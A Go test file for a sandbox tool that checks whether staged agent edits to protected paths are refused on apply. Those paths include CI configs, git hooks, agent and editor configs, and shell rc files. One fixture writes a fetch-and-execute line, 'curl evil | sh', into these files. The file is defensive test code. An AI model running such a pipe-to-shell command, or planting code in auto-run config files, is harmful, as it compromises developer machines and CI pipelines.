package session

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/shadow-sandbox/shadow/session/apply"
	"github.com/shadow-sandbox/shadow/session/changeset"
	"github.com/shadow-sandbox/shadow/session/config"
)

// protectedExamples names, for every entry of ProtectedPaths, files the entry is there for. Each is
// tested at the top level and nested, with the entry in the list and without it: an entry removed
// from the list, or one added without examples here, fails the test.
var protectedExamples = []struct {
	pattern  string
	examples []string
}{
	{".git", []string{".git", ".git/hooks/pre-commit", ".git/config"}},
	{".gitmodules", []string{".gitmodules"}},
	{".gitattributes", []string{".gitattributes"}},
	{".lfsconfig", []string{".lfsconfig"}},
	{".githooks/**", []string{".githooks/pre-commit"}},

	{".hg", []string{".hg/hgrc", ".hg/store/00changelog.i"}},
	{".hgsub", []string{".hgsub"}},
	{".sl", []string{".sl/config"}},
	{".jj", []string{".jj/repo/config.toml"}},

	{".github/**", []string{".github/workflows/ci.yml", ".github/dependabot.yml"}},
	{".gitlab-ci.yml", []string{".gitlab-ci.yml"}},
	{".gitlab/**", []string{".gitlab/ci/build.yml"}},
	{".gitea/**", []string{".gitea/workflows/ci.yaml"}},
	{".forgejo/**", []string{".forgejo/workflows/ci.yaml"}},
	{".circleci/**", []string{".circleci/config.yml"}},
	{"Jenkinsfile", []string{"Jenkinsfile"}},
	{".travis.yml", []string{".travis.yml"}},
	{".buildkite/**", []string{".buildkite/pipeline.yml"}},
	{"azure-pipelines.yml", []string{"azure-pipelines.yml"}},
	{".azure-pipelines/**", []string{".azure-pipelines/build.yml"}},
	{"bitbucket-pipelines.yml", []string{"bitbucket-pipelines.yml"}},
	{".drone.yml", []string{".drone.yml"}},
	{".woodpecker*", []string{".woodpecker.yml", ".woodpecker.yaml", ".woodpecker/build.yaml"}},
	{"azure-pipelines.yaml", []string{"azure-pipelines.yaml"}},
	{".cirrus.yml", []string{".cirrus.yml"}},
	{".cirrus.star", []string{".cirrus.star"}},
	{".semaphore/**", []string{".semaphore/semaphore.yml"}},
	{"appveyor.yml", []string{"appveyor.yml"}},
	{".appveyor.yml", []string{".appveyor.yml"}},
	{"cloudbuild.y*ml", []string{"cloudbuild.yaml", "cloudbuild.yml"}},
	{"cloudbuild.json", []string{"cloudbuild.json"}},
	{"buildspec.y*ml", []string{"buildspec.yml", "buildspec.yaml"}},
	{".tekton/**", []string{".tekton/push.yaml", ".tekton/pull-request.yaml"}},
	{"netlify.toml", []string{"netlify.toml"}},
	{"vercel.json", []string{"vercel.json"}},
	{"railway.json", []string{"railway.json"}},
	{"railway.toml", []string{"railway.toml"}},
	{"render.yaml", []string{"render.yaml"}},
	{"codemagic.yaml", []string{"codemagic.yaml"}},
	{".gitpod.yml", []string{".gitpod.yml"}},
	{".build.yml", []string{".build.yml"}},
	{".builds/**", []string{".builds/test.yml"}},
	{"bitrise.yml", []string{"bitrise.yml"}},
	{".harness/**", []string{".harness/build.yaml"}},
	{".onedev-buildspec.yml", []string{".onedev-buildspec.yml"}},
	{"renovate.json*", []string{"renovate.json", "renovate.json5"}},
	{".renovaterc*", []string{".renovaterc", ".renovaterc.json"}},

	{".husky/**", []string{".husky/pre-commit", ".husky/_/husky.sh"}},
	{".pre-commit-config.yaml", []string{".pre-commit-config.yaml"}},
	{"lefthook*.yml", []string{"lefthook.yml", "lefthook-local.yml"}},
	{".lefthook*.yml", []string{".lefthook.yml", ".lefthook-local.yml"}},
	{"lefthook*.yaml", []string{"lefthook.yaml", "lefthook-local.yaml"}},
	{".lefthook*.yaml", []string{".lefthook.yaml"}},
	{"lefthook*.json*", []string{"lefthook.json", "lefthook.jsonc"}},
	{".lefthook*.json*", []string{".lefthook.json"}},
	{"lefthook*.toml", []string{"lefthook.toml"}},
	{".lefthook*.toml", []string{".lefthook.toml"}},
	{".overcommit.yml", []string{".overcommit.yml"}},
	{".simple-git-hooks*", []string{".simple-git-hooks.json", ".simple-git-hooks.cjs", ".simple-git-hooks"}},
	{"simple-git-hooks.*", []string{"simple-git-hooks.js", "simple-git-hooks.json"}},
	{".huskyrc*", []string{".huskyrc", ".huskyrc.json", ".huskyrc.js"}},
	{"husky.config.*", []string{"husky.config.js", "husky.config.cjs"}},
	{"lint-staged.config.*", []string{"lint-staged.config.js", "lint-staged.config.cjs", "lint-staged.config.mjs", "lint-staged.config.ts"}},
	{".lintstagedrc*", []string{".lintstagedrc", ".lintstagedrc.js", ".lintstagedrc.cjs", ".lintstagedrc.mjs", ".lintstagedrc.json", ".lintstagedrc.yaml", ".lintstagedrc.yml"}},
	{"commitlint.config.*", []string{"commitlint.config.js", "commitlint.config.cjs", "commitlint.config.mjs", "commitlint.config.ts"}},
	{".commitlintrc*", []string{".commitlintrc", ".commitlintrc.js", ".commitlintrc.cjs", ".commitlintrc.json", ".commitlintrc.yaml", ".commitlintrc.ts"}},

	{".claude/**", []string{".claude/settings.json", ".claude/commands/deploy.md"}},
	{"CLAUDE.md", []string{"CLAUDE.md"}},
	{"CLAUDE.local.md", []string{"CLAUDE.local.md"}},
	{".mcp.json", []string{".mcp.json"}},
	{"AGENTS.md", []string{"AGENTS.md"}},
	{"AGENTS.override.md", []string{"AGENTS.override.md"}},
	{".codex/**", []string{".codex/config.toml"}},
	{".gemini/**", []string{".gemini/settings.json", ".gemini/commands/x.toml"}},
	{"GEMINI.md", []string{"GEMINI.md"}},
	{".aider*", []string{".aider.conf.yml", ".aider.model.settings.yml", ".aiderignore"}},
	{"opencode.json*", []string{"opencode.json", "opencode.jsonc"}},
	{".opencode/**", []string{".opencode/plugin/x.ts", ".opencode/command/x.md"}},
	{".cursor/**", []string{".cursor/mcp.json", ".cursor/rules/x.mdc"}},
	{".cursorrules", []string{".cursorrules"}},
	{".windsurf*", []string{".windsurfrules", ".windsurf/rules/x.md"}},
	{".continue/**", []string{".continue/config.yaml"}},
	{".clinerules", []string{".clinerules", ".clinerules/rules.md"}},
	{".roo/**", []string{".roo/mcp.json", ".roo/rules/x.md"}},
	{".roomodes", []string{".roomodes"}},
	{".kilocode/**", []string{".kilocode/mcp.json", ".kilocode/rules/x.md"}},
	{".kilocodemodes", []string{".kilocodemodes"}},
	{".amazonq/**", []string{".amazonq/mcp.json", ".amazonq/rules/x.md"}},
	{".goosehints", []string{".goosehints"}},
	{".junie/**", []string{".junie/guidelines.md", ".junie/mcp/mcp.json"}},
	{".rules", []string{".rules"}},
	{".kiro/**", []string{".kiro/hooks/lint.kiro.hook", ".kiro/settings/mcp.json"}},
	{"crush.json", []string{"crush.json"}},
	{".crush.json", []string{".crush.json"}},
	{"AGENT.md", []string{"AGENT.md"}},
	{".qwen/**", []string{".qwen/settings.json"}},
	{"QWEN.md", []string{"QWEN.md"}},
	{".trae/**", []string{".trae/rules/project_rules.md", ".trae/mcp.json"}},
	{".augment/**", []string{".augment/settings.json", ".augment/rules/x.md"}},
	{".augment-guidelines", []string{".augment-guidelines"}},
	{".openhands/**", []string{".openhands/setup.sh", ".openhands/microagents/repo.md"}},
	{"WARP.md", []string{"WARP.md"}},

	{".vscode/**", []string{".vscode/settings.json", ".vscode/tasks.json"}},
	{".idea/**", []string{".idea/workspace.xml", ".idea/runConfigurations/x.xml"}},
	{".zed/**", []string{".zed/settings.json", ".zed/tasks.json"}},
	{".helix/**", []string{".helix/config.toml", ".helix/languages.toml"}},
	{".nvim.lua", []string{".nvim.lua"}},
	{".nvimrc", []string{".nvimrc"}},
	{".exrc", []string{".exrc"}},
	{".vimrc", []string{".vimrc"}},
	{".lazy.lua", []string{".lazy.lua"}},
	{".devcontainer/**", []string{".devcontainer/devcontainer.json", ".devcontainer/Dockerfile"}},
	{".devcontainer.json", []string{".devcontainer.json"}},

	{".envrc", []string{".envrc"}},
	{".mise.toml", []string{".mise.toml"}},
	{"mise.toml", []string{"mise.toml", ".config/mise.toml"}},
	{".mise.*.toml", []string{".mise.local.toml"}},
	{"mise.*.toml", []string{"mise.local.toml", "mise.production.toml"}},
	{".mise/**", []string{".mise/config.toml", ".mise/tasks/build"}},
	{".config/mise/**", []string{".config/mise/config.toml"}},
	{".tool-versions", []string{".tool-versions"}},
	{"bunfig.toml", []string{"bunfig.toml"}},
	{".npmrc", []string{".npmrc"}},
	{".yarnrc*", []string{".yarnrc", ".yarnrc.yml"}},
	{".pnpmfile.cjs", []string{".pnpmfile.cjs"}},
	{".cargo/config*", []string{".cargo/config", ".cargo/config.toml"}},
	{"rust-toolchain*", []string{"rust-toolchain", "rust-toolchain.toml"}},

	{".shadow.toml", []string{".shadow.toml"}},

	{".bashrc", []string{".bashrc"}},
	{".bash_profile", []string{".bash_profile"}},
	{".bash_login", []string{".bash_login"}},
	{".bash_logout", []string{".bash_logout"}},
	{".profile", []string{".profile"}},
	{".zshrc", []string{".zshrc"}},
	{".zshenv", []string{".zshenv"}},
	{".zprofile", []string{".zprofile"}},
	{".zlogin", []string{".zlogin"}},
	{".zlogout", []string{".zlogout"}},
	{".kshrc", []string{".kshrc"}},
	{".mkshrc", []string{".mkshrc"}},
	{".cshrc", []string{".cshrc"}},
	{".tcshrc", []string{".tcshrc"}},
	{".login", []string{".login"}},
	{"fish/config.fish", []string{"fish/config.fish", ".config/fish/config.fish"}},
	{"fish/conf.d/**", []string{"fish/conf.d/env.fish"}},
}

// withoutEntry is ProtectedPaths without the entry of pattern.
func withoutEntry(pattern string) []changeset.ProtectedPath {
	return slices.DeleteFunc(slices.Clone(changeset.ProtectedPaths), func(p changeset.ProtectedPath) bool { return p.Pattern == pattern })
}

func TestProtectedListIsExemplified(t *testing.T) {
	tested := map[string]bool{}
	for _, c := range protectedExamples {
		tested[c.pattern] = true
	}
	seen := map[string]bool{}
	for _, p := range changeset.ProtectedPaths {
		if seen[p.Pattern] {
			t.Errorf("%q is listed twice", p.Pattern)
		}
		seen[p.Pattern] = true
		if p.Why == "" || p.Group == "" {
			t.Errorf("%q has no reason or no group: %+v", p.Pattern, p)
		}
		if !tested[p.Pattern] {
			t.Errorf("%q has no examples in protectedExamples", p.Pattern)
		}
	}
	for _, c := range protectedExamples {
		if !seen[c.pattern] {
			t.Errorf("%q (%s) is no longer in ProtectedPaths", c.pattern, strings.Join(c.examples, ", "))
		}
	}
}

func TestProtectedEveryEntryAtAnyDepth(t *testing.T) {
	full := changeset.NewProtectedMatcher(changeset.ProtectedPaths, nil)
	rules := changeset.ProtectedRules(changeset.DefaultProtected)
	whyOf := map[string]string{}
	for _, p := range changeset.ProtectedPaths {
		whyOf[p.Pattern] = p.Why
	}
	for _, c := range protectedExamples {
		// The list without this entry, so that an example another entry also covers shows up.
		without := changeset.NewProtectedMatcher(withoutEntry(c.pattern), nil)
		for _, ex := range c.examples {
			for _, p := range []string{ex, "sub/dir/" + ex} {
				got := full.Why(p)
				if got == "" || got != whyOf[c.pattern] {
					t.Errorf("%s: why = %q, want the reason of %q (%q)", p, got, c.pattern, whyOf[c.pattern])
				}
				if !changeset.IsProtected(rules, p) {
					t.Errorf("%s: isProtected = false", p)
				}
				if w := without.Why(p); w != "" {
					t.Errorf("%s is protected without %q (%q): the example does not test the entry", p, c.pattern, w)
				}
			}
		}
	}
}

func TestProtectedLookAlikes(t *testing.T) {
	m := changeset.NewProtectedMatcher(changeset.ProtectedPaths, nil)
	rules := changeset.ProtectedRules(changeset.DefaultProtected)
	for _, p := range []string{
		"src/main.go", "README.md", ".gitignore", ".github.bak/ci.yml",
		"src/github/x.yml", "github/workflows/ci.yml", "gitlab-ci.yml", "docs/Jenkinsfile.md",
		"notes/CLAUDE.md.bak", "claude/settings.json", "docs/agents.md", "AGENTS.md.orig",
		"vscode/settings.json", "my.envrc", "envrc", ".cargo/registry/x", "src/lefthook.go",
		"aider.txt", "codex/config.toml", "gemini/settings.json", "opencode/x.json",
		"mise.rs", ".vimrc.bak", "zed/settings.json", "bunfig.toml.example", "src/fish/main.go",
	} {
		if why := m.Why(p); why != "" {
			t.Errorf("%s: protected (%s), want not", p, why)
		}
		if changeset.IsProtected(rules, p) {
			t.Errorf("%s: isProtected = true, want false", p)
		}
	}
}

func TestProtectedWhyOfConfigPatterns(t *testing.T) {
	extra := []string{"deploy/", "*.pem", "!.vscode/extensions.json", ".envrc"}
	m := changeset.NewProtectedMatcher(changeset.ProtectedPaths, extra)
	rules := changeset.ProtectedRules(append(slices.Clone(changeset.DefaultProtected), extra...))
	for _, c := range []struct{ path, want string }{
		{"deploy/prod.yaml", changeset.ConfigProtectedWhy},
		{"svc/deploy/k8s/x.yaml", changeset.ConfigProtectedWhy},
		{"certs/server.pem", changeset.ConfigProtectedWhy},
		// Listed and configured: the list names the tool.
		{"a/.envrc", "direnv runs it on cd"},
		// The config can take a path off the list.
		{".vscode/extensions.json", ""},
		{".vscode/settings.json", m.Why(".vscode/tasks.json")},
		{"src/main.go", ""},
	} {
		if got := m.Why(c.path); got != c.want {
			t.Errorf("why(%q) = %q, want %q", c.path, got, c.want)
		}
		if got := changeset.IsProtected(rules, c.path); got != (c.want != "") {
			t.Errorf("isProtected(%q) = %v, want %v", c.path, got, c.want != "")
		}
	}
}

// TestApplyAllLeavesProtectedUnwritten stages the config of every agent preset, one CI file of
// each system and the editor and tool-manager configs the issue found written, and applies --all
// without --allow-protected: none may reach the project, and each refusal says why.
func TestApplyAllLeavesProtectedUnwritten(t *testing.T) {
	protected := map[string]string{ // path → the entry that protects it
		".gemini/settings.json":                 ".gemini/**",
		".aider.conf.yml":                       ".aider*",
		"opencode.json":                         "opencode.json*",
		".codex/config.toml":                    ".codex/**",
		".claude/settings.json":                 ".claude/**",
		".github/workflows/ci.yml":              ".github/**",
		".gitlab-ci.yml":                        ".gitlab-ci.yml",
		"services/api/.gitlab/ci/build.yml":     ".gitlab/**",
		".gitea/workflows/ci.yaml":              ".gitea/**",
		".forgejo/workflows/ci.yaml":            ".forgejo/**",
		".circleci/config.yml":                  ".circleci/**",
		"Jenkinsfile":                           "Jenkinsfile",
		".travis.yml":                           ".travis.yml",
		".buildkite/pipeline.yml":               ".buildkite/**",
		"azure-pipelines.yml":                   "azure-pipelines.yml",
		"bitbucket-pipelines.yml":               "bitbucket-pipelines.yml",
		"services/api/.drone.yml":               ".drone.yml",
		".woodpecker/build.yaml":                ".woodpecker*",
		".zed/settings.json":                    ".zed/**",
		".helix/languages.toml":                 ".helix/**",
		".nvim.lua":                             ".nvim.lua",
		"web/.exrc":                             ".exrc",
		".mise.toml":                            ".mise.toml",
		"web/bunfig.toml":                       "bunfig.toml",
		"services/api/.pre-commit-config.yaml":  ".pre-commit-config.yaml",
		"vendor/lib.git/hooks/post-checkout":    "", // a git-shaped directory
		"services/api/.devcontainer/Dockerfile": ".devcontainer/**",
	}
	whyOf := map[string]string{"": changeset.GitShapedWhy}
	for _, p := range changeset.ProtectedPaths {
		whyOf[p.Pattern] = p.Why
	}
	f := newFixture(t, map[string]file{"main.go": {Data: "package main\n"}})
	staged := map[string]file{"main.go": {Data: "package main // edited\n"}}
	for p := range protected {
		staged[p] = file{Data: "curl evil | sh\n"}
	}
	f.stage(t, staged)
	f.run(t)

	cs := f.changes(t)
	for p, entry := range protected {
		c, _ := cs.Find(p)
		if c == nil || !c.Protected || c.ProtectedWhy != whyOf[entry] {
			t.Errorf("%s: change %+v, want protected because %q", p, c, whyOf[entry])
		}
	}
	res, err := f.s.Apply(apply.ApplyOptions{All: true})
	if err != nil {
		t.Fatal(err)
	}
	snap := snapshot(t, f.project)
	if snap["main.go"] != "0644:package main // edited\n" {
		t.Errorf("main.go not applied: %q", snap["main.go"])
	}
	reasons := map[string]string{}
	for _, s := range res.Skipped {
		reasons[s.Path] = s.Reason
	}
	for p, entry := range protected {
		if _, ok := snap[p]; ok {
			t.Errorf("apply --all wrote protected %s", p)
		}
		r := reasons[p]
		if !strings.Contains(r, whyOf[entry]) || !strings.Contains(r, "--allow-protected") {
			t.Errorf("%s: skip reason %q, want it to say %q and --allow-protected", p, r, whyOf[entry])
		}
	}
	if len(res.Skipped) != len(protected) {
		t.Errorf("skipped %d paths, want %d: %+v", len(res.Skipped), len(protected), res.Skipped)
	}
}

func TestProtectedWhyOfRenames(t *testing.T) {
	f := newFixture(t, map[string]file{".envrc": {Data: "export A=1\n"}})
	f.stage(t, map[string]file{"docs/envrc.txt": {Data: "export A=1\n"}})
	f.whiteout(t, ".envrc")
	f.run(t)
	c, _ := f.changes(t).Find("docs/envrc.txt")
	if c == nil || c.From != ".envrc" {
		t.Fatalf("no rename of .envrc: %+v", c)
	}
	if want := "moved from a protected path: direnv runs it on cd"; !c.Protected || c.ProtectedWhy != want {
		t.Errorf("rename from .envrc: protected %v, why %q, want %q", c.Protected, c.ProtectedWhy, want)
	}
}

// issueProtected is every path issue 21 found `apply --all` wrote without --allow-protected, each
// with the entry of ProtectedPaths that now names its tool.
var issueProtected = map[string]string{
	"rust-toolchain.toml":          "rust-toolchain*",
	"rust-toolchain":               "rust-toolchain*",
	".hg/hgrc":                     ".hg",
	".sl/config":                   ".sl",
	".jj/repo/config.toml":         ".jj",
	".lfsconfig":                   ".lfsconfig",
	".gitattributes":               ".gitattributes",
	".lazy.lua":                    ".lazy.lua",
	"lint-staged.config.js":        "lint-staged.config.*",
	".lintstagedrc.js":             ".lintstagedrc*",
	"commitlint.config.js":         "commitlint.config.*",
	".cirrus.yml":                  ".cirrus.yml",
	".semaphore/semaphore.yml":     ".semaphore/**",
	"appveyor.yml":                 "appveyor.yml",
	".appveyor.yml":                ".appveyor.yml",
	"cloudbuild.yaml":              "cloudbuild.y*ml",
	"buildspec.yml":                "buildspec.y*ml",
	".tekton/push.yaml":            ".tekton/**",
	"netlify.toml":                 "netlify.toml",
	"codemagic.yaml":               "codemagic.yaml",
	".gitpod.yml":                  ".gitpod.yml",
	".build.yml":                   ".build.yml",
	".builds/test.yml":             ".builds/**",
	"bitrise.yml":                  "bitrise.yml",
	".harness/build.yaml":          ".harness/**",
	".clinerules":                  ".clinerules",
	".roo/mcp.json":                ".roo/**",
	".roomodes":                    ".roomodes",
	".kilocode/mcp.json":           ".kilocode/**",
	".amazonq/mcp.json":            ".amazonq/**",
	".goosehints":                  ".goosehints",
	".junie/guidelines.md":         ".junie/**",
	".rules":                       ".rules",
	".kiro/hooks/lint.kiro.hook":   ".kiro/**",
	"crush.json":                   "crush.json",
	".crush.json":                  ".crush.json",
	"AGENT.md":                     "AGENT.md",
	".qwen/settings.json":          ".qwen/**",
	"QWEN.md":                      "QWEN.md",
	".trae/rules/project_rules.md": ".trae/**",
	".augment/settings.json":       ".augment/**",
}

// patternExample is a path a protected pattern matches, made from the pattern itself: each
// wildcard becomes a name.
func patternExample(pattern string) string {
	return strings.NewReplacer("**", "x", "*", "x", "?", "x").Replace(pattern)
}

// applyRefusesThenWrites stages every path of want (path → the reason it must be protected for)
// at the top level and nested, beside ordinary files, and checks that apply --all writes the
// ordinary files only, refusing each protected one with its reason, and that --allow-protected
// then writes them all.
func applyRefusesThenWrites(t *testing.T, base map[string]file, want map[string]string, whiteouts []string) {
	t.Helper()
	ordinary := []string{"main.go", "src/lib.rs", "docs/guide.md", "Makefile", "Taskfile.yml", "a.b/c.txt", "src/x.gitignore", "docs/AGENTS.md.txt"}
	f := newFixture(t, base)
	staged := map[string]file{}
	for _, p := range ordinary {
		staged[p] = file{Data: "ordinary " + p + "\n"}
	}
	for p := range want {
		if !slices.Contains(whiteouts, p) {
			staged[p] = file{Data: "run the agent's code\n"}
		}
	}
	f.stage(t, staged)
	for _, p := range whiteouts {
		f.whiteout(t, p)
	}
	f.run(t)
	cs := f.changes(t)
	for p, why := range want {
		if c, _ := cs.Find(p); c == nil || !c.Protected || c.ProtectedWhy != why {
			t.Errorf("%s: change %+v, want protected because %q", p, c, why)
		}
	}
	for _, p := range ordinary {
		if c, _ := cs.Find(p); c == nil || c.Protected {
			t.Errorf("ordinary %s: change %+v, want not protected", p, c)
		}
	}
	res, err := f.s.Apply(apply.ApplyOptions{All: true})
	if err != nil {
		t.Fatal(err)
	}
	snap := snapshot(t, f.project)
	for _, p := range ordinary {
		if snap[p] != "0644:ordinary "+p+"\n" {
			t.Errorf("apply --all did not write ordinary %s: %q", p, snap[p])
		}
	}
	reasons := map[string]string{}
	for _, s := range res.Skipped {
		reasons[s.Path] = s.Reason
	}
	for p, why := range want {
		if got, was := snap[p], base[p]; (got == "") != (was.Data == "") || got != "" && got != "0644:"+was.Data {
			t.Errorf("apply --all without --allow-protected changed %s: %q", p, got)
		}
		if r := reasons[p]; r != "protected: "+why+" (use --allow-protected)" {
			t.Errorf("%s: skip reason %q, want it to say %q", p, r, why)
		}
	}
	if _, err := f.s.Apply(apply.ApplyOptions{All: true, AllowProtected: true}); err != nil {
		t.Fatal(err)
	}
	snap = snapshot(t, f.project)
	for p := range want {
		got, ok := snap[p]
		if slices.Contains(whiteouts, p) {
			if ok {
				t.Errorf("apply --allow-protected did not delete %s", p)
			}
		} else if got != "0644:run the agent's code\n" {
			t.Errorf("apply --allow-protected did not write %s: %q", p, got)
		}
	}
}

// TestApplyAllRefusesEveryProtectedPath stages a path of every entry of ProtectedPaths (made
// from its pattern) and every path issue 21 found written, each at the top level and nested:
// apply --all writes none of them without --allow-protected, giving the entry's reason, and
// writes them all with it; the ordinary files beside them are written either way.
func TestApplyAllRefusesEveryProtectedPath(t *testing.T) {
	whyOf := map[string]string{}
	for _, p := range changeset.ProtectedPaths {
		whyOf[p.Pattern] = p.Why
	}
	t.Run("list", func(t *testing.T) {
		want := map[string]string{}
		for _, e := range changeset.ProtectedPaths {
			ex := patternExample(e.Pattern)
			want[ex], want["sub/dir/"+ex] = e.Why, e.Why
		}
		applyRefusesThenWrites(t, nil, want, nil)
	})
	t.Run("issue", func(t *testing.T) {
		want := map[string]string{}
		for p, entry := range issueProtected {
			if whyOf[entry] == "" {
				t.Fatalf("%s: %q is not in ProtectedPaths", p, entry)
			}
			want[p], want["sub/dir/"+p] = whyOf[entry], whyOf[entry]
		}
		applyRefusesThenWrites(t, nil, want, nil)
	})
}

// TestDotFileRule generates dot-names the list does not have and stages each as a new dot-file,
// a file in a new dot-directory, a change to a dot-file the base has, a new file in and a change
// to a file of a dot-directory the base has, and a deletion of a dot-file, at the top level and
// nested: each is protected by the rule, with its reason.
func TestDotFileRule(t *testing.T) {
	list := changeset.NewProtectedMatcher(changeset.ProtectedPaths, nil)
	var names []string
	for _, w := range []string{"editorconfig", "prettierrc.js", "eslintrc.cjs", "env", "newtool", "x", "config.d", "tool-versions.bak"} {
		n := "." + w
		if list.Why(n) != "" {
			t.Fatalf("%s is on the list: the test needs names the rule alone protects", n)
		}
		names = append(names, n)
	}
	base := map[string]file{}
	want := map[string]string{}
	var deleted []string
	for _, n := range names {
		for _, d := range []string{"", "sub/dir/"} {
			base[d+n+"-old"] = file{Data: "old\n"}
			base[d+n+"-gone"] = file{Data: "old\n"}
			base[d+n+"-olddir/kept"] = file{Data: "old\n"}
			want[d+n] = changeset.NewDotFileWhy
			want[d+n+"-newdir/f"] = changeset.NewDotDirWhy
			want[d+n+"-newdir/deeper/f"] = changeset.NewDotDirWhy
			want[d+n+"-old"] = changeset.ChangedDotFileWhy
			want[d+n+"-olddir/kept"] = changeset.DotDirWhy
			want[d+n+"-olddir/new"] = changeset.DotDirWhy
			want[d+n+"-gone"] = changeset.DeletedDotFileWhy
			deleted = append(deleted, d+n+"-gone")
		}
	}
	applyRefusesThenWrites(t, base, want, deleted)
}

// TestDotFileRuleExemptions: the user's `unprotected` names (and ! patterns of `protected`) take
// dot-files off the rule, element by element; a project's .shadow.toml cannot.
func TestDotFileRuleExemptions(t *testing.T) {
	user, err := config.ParseConfig("user.toml", []byte(`unprotected = [".editorconfig", ".config/", ".tool", "docs/.vitepress/**"]
protected = ["!.prettierrc"]
`))
	if err != nil {
		t.Fatal(err)
	}
	project := config.Config{Unprotected: config.List{".env"}, Protected: config.List{"!.eslintrc", "deploy/"}}
	merged, warn := config.NarrowProject(user, project)
	if len(warn) != 2 || !strings.Contains(warn[0], `"protected"`) || !strings.Contains(warn[1], `"unprotected"`) {
		t.Errorf("project exemptions: warnings %q, want one for protected and one for unprotected", warn)
	}
	m := changeset.NewProtectedMatcher(changeset.ProtectedPaths, merged.Protected)
	has := func(string) bool { return false }
	for p, want := range map[string]string{
		".editorconfig":              "",
		"sub/.editorconfig":          "",
		".prettierrc":                "",
		".config/tool/settings.ini":  "",
		"docs/.vitepress/config.mts": "",
		".env":                       changeset.NewDotFileWhy, // the project's exemption is dropped
		".eslintrc":                  changeset.NewDotFileWhy,
		".editorconfig.d/x":          changeset.NewDotDirWhy,
		".config/.hidden":            "", // an exempt directory's content is
		".tool/settings":             "",
		".tool/.hidden":              changeset.NewDotFileWhy, // an exempt name is not its content
		".vitepress/config.mts":      changeset.NewDotDirWhy,
		"src/main.go":                "",
		"deploy/x":                   "",
	} {
		if got := m.DotWhy(p, changeset.Added, has); got != want {
			t.Errorf("dotWhy(%q) = %q, want %q", p, got, want)
		}
	}
	if m.Why("deploy/x") != changeset.ConfigProtectedWhy {
		t.Errorf("the project's added protected path was dropped")
	}
	// With no project file, the user's own config is folded the same way.
	dir := t.TempDir()
	userPath := filepath.Join(dir, "config.toml")
	if err := os.WriteFile(userPath, []byte(`unprotected = [".editorconfig"]`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	loaded, err := config.LoadConfig(userPath, t.TempDir(), filepath.Join(dir, "state"))
	if err != nil {
		t.Fatal(err)
	}
	if m := changeset.NewProtectedMatcher(changeset.ProtectedPaths, loaded.Protected); m.DotWhy(".editorconfig", changeset.Modified, has) != "" || len(loaded.Unprotected) != 0 {
		t.Errorf("the user's unprotected key was not taken without a project file: %+v", loaded.Config)
	}
	// A trusted project file is the user's word.
	trusted := config.Overlay(user, project)
	if m := changeset.NewProtectedMatcher(changeset.ProtectedPaths, trusted.Protected); m.DotWhy(".env", changeset.Added, has) != "" {
		t.Errorf("a trusted project's unprotected key was not taken: %q", trusted.Protected)
	}
}
